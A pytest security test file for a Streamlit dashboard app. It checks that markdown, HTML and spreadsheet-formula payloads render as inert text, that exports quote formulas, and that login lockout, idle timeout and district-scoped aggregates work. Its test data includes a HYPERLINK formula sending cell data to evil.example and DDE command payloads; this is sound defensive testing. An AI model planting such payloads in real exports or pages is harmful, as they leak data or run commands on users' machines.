"""Abuse of the dashboards from inside the app: hostile text, formulas, guessing, idling,
unlogged exports and aggregates over other districts.

Real app script (AppTest) and the real data-access and export modules, over the
dashboards' small real snapshot; the hostile text comes through a snapshot whose every
text value starts with markdown, HTML and a formula (``payload_snapshot_root``). The
attacks that need HTTP (cookies, endpoints, session ids) are in test_abuse_browser.py.
"""

from __future__ import annotations

import csv
import html as html_module
import io
import re
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from markdown_it import MarkdownIt

from dashboards import access_log, auth, data, export
from tests.dashboards.conftest import (  # noqa: F401 - fixtures
    PAYLOAD,
    dash_settings,
    payload_settings,
    payload_snapshot_root,
    snapshot_root,
)
from tests.dashboards.dashboards_testlib import PASSWORDS
from tests.dashboards.test_pages import open_page, start

LEADER = data.Scope("leader")
OFFICER = data.Scope("district", "崇川区")

# ---------------------------------------------------------------- text is text

# Proto fields Streamlit renders as markdown (titles, captions, alerts, metric label,
# value and delta, widget labels and help). Table cells, chart specs and select options
# are plain text on the page.
MARKDOWN_FIELDS = {"body", "label", "help", "delta"}
_RENDER = MarkdownIt("commonmark", {"html": True})
# What GFM turns into a link in rendered text (bare addresses, e-mail addresses), or a
# Streamlit directive (``:red[…]``).
_LIVE = re.compile(r"(?i)(https?://|www\.|\w@\w)")
_DIRECTIVE = re.compile(r"(?<!\\):[a-z]+\[")
URL_KEYS = ("district", "street", "unit", "level", "stream", "month", "lead")
PAGES = ("overview", "safety_index", "completion", "group_rental", "alerts", "data_quality")


def _markdown_texts(at) -> list[str]:
    """Every markdown-rendered string of the page (sidebar included)."""
    found: list[str] = []

    def fields(message) -> None:
        for descriptor, value in message.ListFields():
            if descriptor.name in ("arrow_data", "data", "spec", "datasets", "options"):
                continue
            if descriptor.type == descriptor.TYPE_MESSAGE:
                items = [value] if hasattr(value, "ListFields") else list(value)
                for item in items:
                    if hasattr(item, "ListFields"):
                        fields(item)
            elif descriptor.name in MARKDOWN_FIELDS and isinstance(value, str):
                found.append(value)

    def walk(node) -> None:
        proto = getattr(node, "proto", None)
        if proto is not None:
            fields(proto)
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return found


def _renders_something(text: str) -> bool:
    html = _RENDER.render(text)
    shown = html_module.unescape(re.sub(r"<[^>]+>", "", html))
    return bool(re.search(r"<(a|img)\b|<(?!/?(p|strong|em|code)>)[a-z]", html)) or bool(
        _LIVE.search(shown) or _DIRECTIVE.search(text)
    )


def _assert_text_only(at, where: str) -> None:
    texts = _markdown_texts(at)
    live = [t for t in texts if _renders_something(t)]
    assert live == [], where
    assert any("点我" in t for t in texts), f"{where}: the payload reached no text"


def test_markdown_and_html_in_data_and_url_parameters_render_as_text(
    payload_settings,  # noqa: F811 - fixture
) -> None:
    params = dict.fromkeys(URL_KEYS, PAYLOAD)
    for page in PAGES:
        at = open_page(start("analyst"), page, **params)
        _assert_text_only(at, page)
    lead = data.leads(LEADER).iloc[0]["lead_id"]
    assert lead.startswith(PAYLOAD)
    at = open_page(start("leader"), "lead_detail", lead=lead)
    assert at.dataframe and not at.error  # the whole lead page, with its linked records
    _assert_text_only(at, "lead_detail")
    at = open_page(start("leader"), "lead_detail", lead="[点我](http://evil.example/x)")
    assert [e.value for e in at.error] == [
        "线索 \\[点我\\]\\(http\\:\u2060\\/\\/evil\\.example\\/x\\) 不存在或不在您的权限范围内。"
    ]
    _assert_text_only(at, "lead_detail error box")


# ---------------------------------------------------------------- exports

FORMULAS = [
    '=HYPERLINK("http://evil.example/?l="&A2,"点")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_like_values_are_text_in_every_export() -> None:
    frame = pd.DataFrame({"address": FORMULAS, "n": range(len(FORMULAS))})
    sheet = openpyxl.load_workbook(io.BytesIO(export.to_excel(frame, "s")))["s"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # (openpyxl reads a carriage return as the XML escape xlsxwriter wrote for it)
    assert [c.value.replace("_x000D_", "\r") for c in cells] == FORMULAS
    assert {c.data_type for c in cells} == {"s"}  # no formula ("f") cell
    assert all(c.quotePrefix for c in cells)  # and still text once edited
    assert not sheet._hyperlinks
    rows = list(csv.reader(io.StringIO(export.to_csv(frame).decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]


def test_a_page_run_builds_no_export_file_and_logs_no_export(
    payload_settings,  # noqa: F811 - fixture
) -> None:
    # The click itself (file built, logged, fetched only with the login's cookie) is in
    # test_abuse_browser.py: AppTest has no browser to click with.
    at = open_page(start("leader"), "group_rental")
    at.checkbox(key="leads_export_all").check().run()
    buttons = at.get("download_button")
    assert len(buttons) == 2
    for button in buttons:
        assert button.proto.url == ""  # no media file exists before the click
        assert button.proto.deferred_file_id  # the server builds it when clicked
    exports = [e for e in access_log.entries(payload_settings) if e[4].startswith("export")]
    assert exports == []


# ---------------------------------------------------------------- logins


def _config(tmp_path: Path, monkeypatch, **login: object) -> None:
    """The dashboard config with some ``[login]`` values changed."""
    text = data.CONFIG_FILE.read_text(encoding="utf-8")
    for key, value in login.items():
        text = re.sub(rf"(?m)^{key} = .*$", f"{key} = {value}", text)
    path = tmp_path / "config.toml"
    path.write_text(text, encoding="utf-8")
    monkeypatch.setenv("PINGAN_DASHBOARD_CONFIG", str(path))


def _login(at, username: str, password: str):
    at.text_input(key="login_username").input(username)
    at.text_input(key="login_password").input(password)
    return at.button[0].click().run()


def test_repeated_wrong_passwords_lock_the_name_and_every_attempt_is_logged(
    dash_settings,  # noqa: F811 - fixture
    tmp_path: Path,
    monkeypatch,
) -> None:
    _config(tmp_path, monkeypatch, failure_delay_seconds=0.2)
    policy = auth.login_policy()
    at = start()
    started = time.monotonic()
    for _ in range(policy.max_failures):
        _login(at, "analyst", "guess")
        assert [e.value for e in at.error] == [auth.WRONG_PASSWORD]
    assert time.monotonic() - started >= policy.max_failures * 0.2  # throttled
    _login(at, "analyst", PASSWORDS["analyst"])  # the right password, now too late
    assert [e.value for e in at.error] == [auth.LOCKED.format(minutes="15")]
    assert auth.SESSION_KEY not in at.session_state
    # another name is not locked
    _login(at, "leader", PASSWORDS["leader"])
    assert at.title[0].value == "总览"
    actions = [(e[1], e[4], e[6]) for e in access_log.entries(dash_settings)]
    assert actions == [
        *[("analyst", "login_failed", False)] * policy.max_failures,
        ("analyst", "login_lockout", False),
        ("analyst", "login_locked", False),
        ("leader", "login", True),
    ]


def test_a_session_idle_past_the_timeout_must_log_in_again(
    dash_settings,  # noqa: F811 - fixture
    tmp_path: Path,
    monkeypatch,
) -> None:
    _config(tmp_path, monkeypatch, idle_timeout_minutes=0.02)  # 1.2 s
    at = _login(start(), "leader", PASSWORDS["leader"])
    assert at.title[0].value == "总览"
    time.sleep(1.5)
    at.run()
    assert [w.value for w in at.warning][:1] == ["登录已超时，请重新登录。"]
    assert not at.dataframe and not at.metric
    assert auth.SESSION_KEY not in at.session_state
    assert access_log.entries(dash_settings)[-1][1:] == (
        "leader",
        "-",
        None,
        "session_expired",
        None,
        False,
    )


# ---------------------------------------------------------------- scope on aggregates


def test_an_officer_sees_no_figure_computed_from_other_districts_rows(
    dash_settings,  # noqa: F811 - fixture
) -> None:
    month = data.index_months()[-1]
    # level averages: over the officer's own district only (not published city-wide)
    own = data.unit_components(OFFICER, "崇川区", month)
    assert not own.empty
    assert (own["avg_contribution"] - own["contribution"]).abs().max() < 1e-9
    city = data.unit_components(LEADER, "崇川区", month)
    assert (city["avg_contribution"] - city["contribution"]).abs().max() > 0.01  # not vacuous
    units = data.index_units(OFFICER, month, "street", "崇川区")
    street = units["region_key"].iloc[0]
    avg = data.unit_components(OFFICER, street, month).set_index("indicator_code")
    all_components = data.query(
        "select indicator_code, avg(contribution) as a from marts.mart_safety_index_components "
        "where month = ? and region_level = 'street' and district = '崇川区' group by 1",
        [month],
    ).set_index("indicator_code")
    diff = (avg["avg_contribution"] - all_components["a"].reindex(avg.index)).abs()
    assert diff.max() < 1e-9
    # lead ranks: among the officer's own leads, 1..n (not published city-wide)
    leads = data.leads(OFFICER, min_score=0, statuses=("待核查", "已确认群租"))
    assert sorted(leads["rank"].astype(int)) == list(range(1, len(leads) + 1))
    assert data.leads(LEADER, "崇川区")["rank"].max() > len(data.leads(OFFICER))
    # the index ranking is published city-wide by the default config: the city's rank
    ranks = data.index_units(OFFICER, month, "district")
    city_ranks = data.index_units(LEADER, month, "district").set_index("region_key")
    assert ranks["rank"].tolist() == [city_ranks.loc["崇川区", "rank"]]


def test_figures_left_out_of_the_published_list_are_withheld_from_officers(
    dash_settings,  # noqa: F811 - fixture
    tmp_path: Path,
    monkeypatch,
) -> None:
    text = data.CONFIG_FILE.read_text(encoding="utf-8")
    path = tmp_path / "config.toml"

    def publish(figures: str) -> None:
        path.write_text(re.sub(r"(?m)^city_wide_figures = .*$", figures, text))
        monkeypatch.setenv("PINGAN_DASHBOARD_CONFIG", str(path))

    month = data.index_months()[-1]
    # the index published, its ranking not: the officer's streets ranked among themselves
    publish('city_wide_figures = ["safety_index"]')
    streets = data.index_units(OFFICER, month, "street")
    # ranked 1..n by their own index, equal indexes tied (rounded as the mart ranks them)
    own = streets["safety_index"].round(9).rank(method="min", ascending=False).astype(int)
    assert streets["rank"].astype(int).tolist() == own.tolist()
    assert own.min() == 1 and own.max() <= len(streets)
    assert set(streets["units_ranked"]) == {len(streets)}
    assert streets["rank_change_mom"].isna().all()
    city = data.index_units(LEADER, month, "street")
    assert city["units_ranked"].max() > len(streets)  # the city ranks more streets
    publish("city_wide_figures = []")
    with pytest.raises(data.AccessDenied):
        data.index_units(OFFICER, month, "district")
    at = open_page(start("chongchuan"), "safety_index")
    assert [e.value for e in at.error] == [
        "平安稳定指数及其标准化得分（按全市各单位的取值范围标准化）未作为全市公布指标向区县开放"
    ]
    assert not at.dataframe
    assert not data.index_units(LEADER, month, "district").empty  # leaders see the city
